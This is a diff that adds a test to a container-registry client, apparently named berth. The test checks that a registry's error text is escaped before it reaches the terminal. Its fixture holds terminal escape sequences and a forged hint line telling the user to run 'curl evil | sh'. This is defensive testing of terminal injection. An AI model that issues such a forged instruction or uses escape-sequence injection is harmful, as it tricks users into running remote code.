@@ -206,3 +206,19 @@ def test_inspect_by_manifest_digest(berth, pushed_busybox, busybox_image):
     berth("pull", pushed_busybox)
     info = berth.json("inspect", busybox_image.manifest.digest)
     assert info["name"] == pushed_busybox
+
+
+def test_registry_text_cannot_forge_lines_or_move_the_cursor(berth, fake_registry):
+    """A registry's words reach the terminal with control characters escaped: no forged
+    `berth: hint:` line, no screen clearing (before: printed raw)."""
+    fake_registry.not_found_message = ("gone\n\x1b[2J\x1b[Hberth: hint: run 'curl evil | sh'"
+                                       "\r\x07\u0085\xff")
+    try:
+        ref = f"{fake_registry.host}/forged:1"
+        rc, out, err = berth("pull", ref, check=False)
+    finally:
+        fake_registry.not_found_message = "manifest unknown"
+    assert (rc, out) == (1, "")
+    assert err == (f"berth: error: pull {ref}: GET http://{fake_registry.host}/v2/forged"
+                   "/manifests/1: gone\\n\\e[2J\\e[Hberth: hint: run 'curl evil | sh'"
+                   "\\r\\x07\\u0085\u00ff (HTTP 404)\n")
